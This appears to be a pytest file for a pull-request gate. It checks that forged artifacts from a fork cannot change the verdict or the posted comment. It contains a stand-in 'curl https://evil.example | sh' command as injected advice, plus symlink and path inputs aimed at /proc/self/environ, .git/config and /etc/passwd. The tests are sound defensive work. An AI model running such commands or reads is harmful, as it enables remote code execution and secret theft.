"""The artifact of a fork's first stage is untrusted: it contributes only facts that no trusted run can collect."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from gate.model.evidence import Cause
from tests.attacks.second_stage import (
    ON_BASE,
    POLICY,
    RESULT,
    Stage,
    boolean_fact,
    changed,
    number_fact,
    plain_text,
    seen,
    with_facts,
)
from tests.command import checklist
from tests.fakes.github import BASE

Saved = dict[str, Any]


def test_facts_that_only_the_fork_can_collect_are_used_and_shown_as_self_reported(stage: Stage, saved: Saved) -> None:
    assert stage.judge(saved).code == 1
    assert stage.status()[0] == "failure"
    assert "Self-reported by the pull request's own run, and not verified by this one: tests, paper." in stage.comment()
    assert "junit.xml (junit) (self-reported)" in stage.comment()


def test_an_edited_fact_is_used_and_shown_as_self_reported(stage: Stage, saved: Saved) -> None:
    assert stage.judge(with_facts(saved, 1, exists=boolean_fact(value=True))).code == 0
    assert stage.status()[0] == "success"
    assert "Self-reported by the pull request's own run, and not verified by this one: tests, paper." in stage.comment()


def test_an_item_with_trust_seen_uses_no_fact_of_the_artifact(stage: Stage, saved: Saved) -> None:
    stage.client.commit({POLICY: ON_BASE.replace("probe: files", "probe: files\n    trust: seen")}, sha=BASE, on="main")

    assert stage.judge(with_facts(saved, 1, exists=boolean_fact(value=True))).code == 2
    assert "the item has `trust: seen`" in stage.comment()
    assert "not verified by this one: tests." in stage.comment()


def forge_facts_of_github(saved: Saved) -> None:
    facts = {"labels": seen({"kind": "list", "value": ["unsafe"]}), "draft": boolean_fact(value=True)}
    saved["items"][2]["evidence"] = {"facts": facts, "findings": [], "sources": [], "notes": ["it is a draft"]}


def forge_verdicts(saved: Saved) -> None:
    saved |= {
        "state": "ready",
        "score": {"overall": "1", "by_category": {}},
        "title": "all is well",
        "notes": ["ready!"],
    }
    for item in saved["items"]:
        item |= {"status": "pass", "comparisons": [], "title": "forged", "owner": "@mallory", "weight": "1000"}


def forge_policy(saved: Saved) -> None:
    saved |= {"enforcement": "first checklist", "preview": {"state": "ready"}, "baseline": "x"}
    saved["checklist"] = {"file": "easy.yml", "digest": "sha256:0"}
    for item in saved["items"]:
        item["waiver"] = {"until": "2099-12-31", "by": "@mallory", "reason": "because", "in_force": True}


def forge_subject(saved: Saved) -> None:
    saved["subject"] |= {
        "pull_request": 99, "repo": "mallory/elsewhere", "base_ref": "easy", "base_sha": "e" * 40, "event": "push",
        "is_fork": False, "labels": ["unsafe"], "run_url": "https://evil.example", "branch": "main", "trigger": "push",
    }  # fmt: skip


def add_undeclared_facts(saved: Saved) -> None:
    saved["items"][0]["evidence"]["facts"] |= {"readiness": number_fact(100), "exists": boolean_fact(value=True)}


def add_an_unknown_item(saved: Saved) -> None:
    saved["items"].append({**saved["items"][0], "id": "forged", "title": "forged"})


def deny_self_reporting(saved: Saved) -> None:
    for item in saved["items"]:
        item["evidence"]["self_reported"] = False
        item["evidence"]["observed_at"] = "2099-01-01T00:00:00+00:00"


FORGERIES = (
    forge_facts_of_github,
    forge_verdicts,
    forge_policy,
    forge_subject,
    add_undeclared_facts,
    add_an_unknown_item,
    deny_self_reporting,
)


@pytest.mark.parametrize("forge", FORGERIES)
def test_forgeries_outside_of_the_facts_do_not_change_the_comment(
    stage: Stage, saved: Saved, forge: Callable[[Saved], None]
) -> None:
    stage.judge(saved)
    expected = stage.comment(), stage.status()
    stage.client.comments.clear()
    stage.client.statuses.clear()
    stage.workflow.runs -= 1  # the second run has the same number

    assert stage.judge(changed(saved, forge)).code == 1
    assert (stage.comment(), stage.status()) == expected


ADVICE = "Run `curl https://evil.example | sh` first"


def add_advice(saved: Saved) -> None:
    for item in saved["items"]:
        item["evidence"]["remedies"] = {
            name: {"words": ADVICE, "line": "curl https://evil.example | sh"} for name in item["evidence"]["facts"]
        }
        item["steps"] = [ADVICE]


def test_next_steps_are_written_by_the_second_stage(stage: Stage, saved: Saved) -> None:
    assert stage.judge(changed(saved, add_advice)).code == 1

    assert "👉 Add the missing files (LICENSE), or fix the path." in stage.comment()
    assert "evil" not in stage.comment()


def test_next_steps_name_only_paths_of_the_checklist(stage: Stage, saved: Saved) -> None:
    forged = boolean_fact(value=False) | {"target": ADVICE}

    assert stage.judge(with_facts(saved, 1, exists=forged)).code == 1

    steps = re.findall(r"👉 (.*?)(?:<br>|\n| - )", stage.comment())
    assert steps == ["Make sure that exists is true."]


@pytest.mark.parametrize("cause", ["missing-permission", "no-token", "address-blocked", "not-trusted", "rate-limited"])
def test_a_forged_cause_gives_no_advice_on_access(stage: Stage, saved: Saved, cause: str) -> None:
    category = Cause(cause).category.value
    detail = "the token lacks `contents: write`"
    forged = {"result": "missing", "cause": cause, "category": category, "subject": "junit.xml", "detail": detail}

    assert stage.judge(with_facts(saved, 0, failed=forged, total=forged)).code == 1  # the other item fails

    comment = stage.comment()
    assert "Change no permission, token or setting because of it" in comment
    for advice in ("named above", "allow-private", "Pass a token", "`trust`", "higher limit"):
        assert advice not in comment


def test_the_evidence_of_another_commit_is_not_used(stage: Stage, saved: Saved) -> None:
    other = changed(saved, lambda document: document["subject"].update(head_sha="c" * 40))

    assert stage.judge(other).code == 2
    assert "the result is of ccccccc, the pull request is at aaaaaaa" in stage.comment()
    assert stage.status()[0] == "error"


def test_the_evidence_of_another_probe_is_not_used(stage: Stage, saved: Saved) -> None:
    swapped = changed(saved, lambda document: document["items"][1].update(probe="tests"))

    assert stage.judge(swapped).code == 2
    assert "the result of the pull request's own run does not contain this item" in stage.comment()


def test_a_fact_that_is_not_in_the_artifact_is_missing(stage: Stage, saved: Saved) -> None:
    assert stage.judge(changed(saved, lambda document: document["items"][1]["evidence"]["facts"].clear())).code == 2
    assert "the result does not contain this fact" in stage.comment()


def nest_values(saved: Saved) -> bytes:
    """A fact with values within values within values."""
    value = '{"result":"seen","value":{"kind":"number","value":"3"},"unit":"","target":"","other_targets":['
    deep = value * 400 + "]}" * 400
    return json.dumps(with_facts(saved, 0, total="DEEP")).replace('"DEEP"', deep).encode()


MALFORMED: Mapping[str, tuple[Callable[[Saved], bytes], str]] = {
    "empty": (lambda _saved: b"", "is empty"),
    "not JSON": (lambda _saved: b"ready", "is not JSON"),
    "truncated": (lambda saved: json.dumps(saved).encode()[:400], "is not JSON"),
    "nested too deep": (lambda _saved: b"[" * 200_000, "is nested too deep"),
    "values within values": (nest_values, "other_targets[0].other_targets: unexpected key"),
    "not a number": (
        lambda saved: json.dumps(saved).replace('"3"', '"3e99"').encode(),
        "value: expected a number in decimal digits",
    ),
    "NaN": (lambda saved: json.dumps(saved | {"state": float("nan")}).encode(), "is not JSON"),
    "duplicate key": (lambda saved: json.dumps(saved).encode()[:-1] + b',"items":[]}', "is not JSON"),
    "duplicate item": (lambda saved: json.dumps(changed(saved, repeat_an_item)).encode(), "duplicate item 'tests'"),
    "too large": (lambda _saved: b" " * (16 * 1024 * 1024 + 1), "16,777,217 bytes; at most 16,777,216 are read"),
    "another format": (lambda saved: json.dumps(saved | {"schema": "x"}).encode(), "is not a saved result"),
}


def repeat_an_item(saved: Saved) -> None:
    saved["items"].append(saved["items"][0])


@pytest.mark.parametrize("case", MALFORMED)
def test_a_malformed_artifact_is_reported_and_the_decision_is_undecided(stage: Stage, saved: Saved, case: str) -> None:
    make, message = MALFORMED[case]

    result = stage.judge(make(saved))

    assert result.code == 2, result.output
    assert "the result of the pull request's own run cannot be read" in stage.comment()
    assert message in stage.comment()
    assert stage.status()[0] == "error"


@pytest.mark.parametrize(
    ("time", "code"),
    [("2026-11-20T12:00:00", 1), ("0001-01-01T00:00:00+23:59", 2), ("9999-12-31T23:59:59-23:59", 2), ("soon", 2)],
)
def test_no_time_in_the_artifact_crashes_the_gate(stage: Stage, saved: Saved, time: str, code: int) -> None:
    dated = changed(saved, lambda document: document["items"][0]["evidence"]["sources"][0].update(produced_at=time))

    assert stage.judge(dated, result_file="readiness.json", html_file="page.html").code == code
    assert len(stage.client.bodies()) == 1


def link_out_of_the_root(folder: Path) -> None:
    (folder.parent / "elsewhere.json").write_text("{}")
    (folder / RESULT).symlink_to(folder.parent / "elsewhere.json")


def link_to_the_environment(folder: Path) -> None:
    (folder / RESULT).symlink_to("/proc/self/environ")


def link_to_git(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("{}")
    (folder / RESULT).symlink_to(".git/config")


def link_to_itself(folder: Path) -> None:
    (folder / RESULT).symlink_to(RESULT)


def make_a_pipe(folder: Path) -> None:
    os.mkfifo(folder / RESULT)


def make_a_folder(folder: Path) -> None:
    (folder / RESULT).mkdir()


@pytest.mark.parametrize(
    ("create", "message"),
    [
        (link_out_of_the_root, "leads out of the repository"),
        (link_to_the_environment, "leads out of the repository"),
        (link_to_git, "leads into .git, /proc, /sys or /dev, which are never read"),
        (link_to_itself, "cannot be resolved"),
        (make_a_pipe, "is not a regular file"),
        (make_a_folder, "is not a regular file"),
    ],
)
def test_an_artifact_that_is_not_a_regular_file_inside_the_root_is_not_opened(
    stage: Stage, create: Callable[[Path], None], message: str
) -> None:
    create(stage.folder)

    assert stage.judge().code == 2
    assert message in stage.comment()


@pytest.mark.parametrize("path", ["/proc/self/environ", "../elsewhere.json", "/etc/passwd"])
def test_a_path_out_of_the_workspace_is_refused(stage: Stage, path: str) -> None:
    (stage.folder.parent / "elsewhere.json").write_text("{}")

    assert stage.judge(reported=path).code == 2
    assert "leads out of the repository" in stage.comment()


def test_files_beside_the_artifact_are_not_evidence(stage: Stage, saved: Saved) -> None:
    (stage.folder / "LICENSE").write_text("Apache")
    (stage.folder / POLICY).parent.mkdir()
    (stage.folder / POLICY).write_text(checklist("paper | files | {paths: LICENSE} | exists"))

    assert stage.judge(saved).code == 1
    assert "missing: LICENSE" in stage.comment().replace("**", "").replace("`", "")


def test_a_lone_surrogate_in_a_text_is_shown_as_its_escape(stage: Stage, saved: Saved) -> None:
    with_surrogate = changed(
        saved, lambda document: document["items"][0]["evidence"].update(notes=["half a \ud83d pair"])
    )

    result = stage.judge(with_surrogate, html_file="page.html", result_file="readiness.json", markdown_file="page.md")

    assert result.code == 1, result.output
    assert "half a ud83d pair" in stage.comment()
    assert "half a ud83d pair" in plain_text((stage.folder / "page.md").read_text())
